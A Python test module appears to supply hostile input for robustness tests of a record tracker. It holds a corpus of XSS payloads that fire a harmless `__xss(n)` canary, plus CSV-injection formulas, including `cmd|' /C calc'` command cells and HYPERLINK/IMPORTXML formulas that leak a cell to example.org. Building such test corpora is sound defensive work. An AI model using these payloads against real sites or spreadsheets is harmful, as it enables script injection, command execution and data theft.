"""Hostile text for the robustness tests: markup, scripts and spreadsheet formulas that a
record's author might type, each of which calls `window.__xss(n)` (its own number) if it
ever runs in a browser.

`PAYLOADS` is the corpus; `fit(payload, limit)` cuts one to a field's limit keeping its
end (where the markup that would run sits); `FORMULAS` are the cells a spreadsheet would
evaluate if an export wrote them as they are; `stored(save, raw, refused)` saves through
a service what it accepts of them.
"""

from __future__ import annotations

import re

# {n} is replaced by the payload's number.
_TEMPLATES = [
    # Script elements, plain and disguised.
    "<script>__xss({n})</script>",
    "<SCRIPT>__xss({n})</SCRIPT>",
    "<script src=data:text/javascript,__xss({n})></script>",
    "<scr<script>ipt>__xss({n})</scr</script>ipt>",
    "<script >__xss({n})</script >",
    # Event handlers on elements.
    '<img src=x onerror="__xss({n})" data-xss>',
    "<img src=x onerror=__xss({n}) data-xss>",
    "<svg onload=__xss({n}) data-xss>",
    "<body onload=__xss({n}) data-xss>",
    "<details open ontoggle=__xss({n}) data-xss>",
    "<input autofocus onfocus=__xss({n}) data-xss>",
    "<video><source onerror=__xss({n}) data-xss></video>",
    "<iframe srcdoc='<script>parent.__xss({n})</script>' data-xss></iframe>",
    "<marquee onstart=__xss({n}) data-xss>x</marquee>",
    '<div style="width:100px;height:100px" onmouseover=__xss({n}) data-xss>x</div>',
    # javascript: and data: addresses.
    "javascript:__xss({n})",
    " JaVaScRiPt:__xss({n})",
    '<a href="javascript:__xss({n})" data-xss>lien</a>',
    "<a href=&#106;avascript:__xss({n}) data-xss>lien</a>",
    'https://example.org/"onmouseover="__xss({n})',
    "<form action=javascript:__xss({n}) data-xss><button>x</button></form>",
    # SVG and MathML.
    "<svg><script>__xss({n})</script></svg>",
    "<svg><a xlink:href=javascript:__xss({n}) data-xss><text>x</text></a></svg>",
    "<svg><animate onbegin=__xss({n}) attributeName=x dur=1s data-xss>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss({n}) data-xss>",
    "<math href=javascript:__xss({n}) data-xss>x</math>",
    # Breaking out of attributes, with each kind of quote.
    '" onmouseover="__xss({n})" data-xss="',
    "' onmouseover='__xss({n})' data-xss='",
    "` onmouseover=`__xss({n})` data-xss=`",
    '"><img src=x onerror=__xss({n}) data-xss>',
    "'><img src=x onerror=__xss({n}) data-xss>",
    '" autofocus onfocus=__xss({n}) x="',
    # Breaking out of scripts: JSON, strings, template literals.
    "</script><script>__xss({n})</script>",
    '"};__xss({n});//',
    "';__xss({n});//",
    "${__xss({n})}",
    "`;__xss({n});`",
    "</ScRiPt ><img src=x onerror=__xss({n}) data-xss>",
    "\\u003cimg src=x onerror=__xss({n}) data-xss\\u003e",
    # Templates of other engines.
    "{{constructor.constructor('__xss({n})')()}}",
    "{{ __xss({n}) }}",
    "{% raw %}<img src=x onerror=__xss({n}) data-xss>{% endraw %}",
    # Entities and escapes that decode into markup.
    "&lt;img src=x onerror=__xss({n}) data-xss&gt;",
    "&#60;script&#62;__xss({n})&#60;/script&#62;",
    "%3Cscript%3E__xss({n})%3C/script%3E",
    "\uff1cscript\uff1e__xss({n})\uff1c/script\uff1e",
    # Bidirectional overrides around markup.
    "\u202e<img src=x onerror=__xss({n}) data-xss>\u202c",
    "\u2067مرحبا <svg onload=__xss({n}) data-xss>\u2069",
    # Styles and meta tags.
    "<style>@import 'javascript:__xss({n})';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:__xss({n})'>",
    "<link rel=stylesheet href=javascript:__xss({n})>",
    "<base href=javascript:__xss({n})//>",
    '<noscript><p title="</noscript><img src=x onerror=__xss({n}) data-xss>">',
    "<textarea></textarea><img src=x onerror=__xss({n}) data-xss>",
    "<title></title><img src=x onerror=__xss({n}) data-xss>",
    # Leaflet popups and tooltips render a string as HTML.
    "<b onmouseover=__xss({n}) data-xss>infobulle</b>",
    "<span class=leaflet-popup-content><img src=x onerror=__xss({n}) data-xss></span>",
    # Spreadsheet formulas that also try the page.
    '=HYPERLINK("javascript:__xss({n})","ouvrir")',
    "@SUM(1+1)*cmd|' /C calc'!A0<img src=x onerror=__xss({n}) data-xss>",
    # A very long text with markup at its end.
    "A" * 1900 + "<img src=x onerror=__xss({n}) data-xss>",
]

PAYLOADS: list[str] = [
    template.replace("{n}", str(n)) for n, template in enumerate(_TEMPLATES, start=1)
]

# Cells a spreadsheet would evaluate if written as they are (OWASP's CSV injection).
FORMULAS = [
    '=HYPERLINK("https://example.org/?leak="&A1,"Cliquer")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("https://example.org/?", A1), "//a")',
]


def fit(payload: str, limit: int) -> str:
    """`payload` within `limit` characters: its last ones, where the markup sits."""
    return payload if len(payload) <= limit else payload[-limit:]


BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")


def stored(save, raw: dict, refused: dict) -> object:
    """Save `raw` through `save`. A field the service refuses is counted in `refused`
    (field → count), tried again without the characters that reorder text, then left
    out, until the service accepts the rest."""
    from tracker.records.outcomes import RecordInvalid

    tried: set[str] = set()
    while True:
        try:
            return save(raw)
        except RecordInvalid as invalid:
            for field in invalid.errors:
                holder, key = raw, field
                question, _, rest = field.partition("_")
                if re.fullmatch(r"Q\d+", question) and question in raw.get("answers", {}):
                    holder, key = raw["answers"][question], rest
                assert field not in tried or key in holder, (field, invalid.errors)
                # Only the characters that reorder text are refused, never markup.
                assert field in tried or BIDI.search(str(holder[key])), (field, invalid.errors)
                refused[key] = refused.get(key, 0) + (field not in tried)
                if field in tried:
                    holder.pop(key)
                else:
                    holder[key] = BIDI.sub("", holder[key])
                tried.add(field)
